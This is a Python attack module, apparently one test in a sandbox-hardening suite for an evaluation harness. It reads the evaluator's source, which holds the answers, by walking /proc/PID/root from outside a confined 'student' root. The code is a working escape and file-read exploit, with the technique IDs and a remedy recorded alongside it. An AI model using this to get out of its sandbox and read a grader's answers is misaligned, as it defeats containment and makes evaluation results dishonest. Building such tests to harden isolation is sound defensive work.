# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, which holds the answers.
Means: /proc/PID/root is the root folder as the worker sees it. A student shut into another root, or
       kept from the name /var/task, walks through this door into the worker's.
"""

import os

from attack import DONE, attempting, denied, loot


def neighbours(first):
    """The worker, then every process in /proc but this one."""
    try:
        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        seen = []
    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief.worker):
        try:
            with open(f"/proc/{pid}/root/var/task/evaluator.py", "rb") as file:
                loot(file.read(65536))
            return DONE
        except OSError as error:
            why = error
    return denied("/proc/PID/root/var/task", why)


ATTACK = {
    "effect": "the evaluator's source is read through /proc",
    "means": "/proc/PID/root of the worker as the prefix of any path",
    "oracle": "secret:task",
    "id": "PROC-08",
    "attack_id": "T1005, CWE-22",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc(5)"],
    "run": run,
}
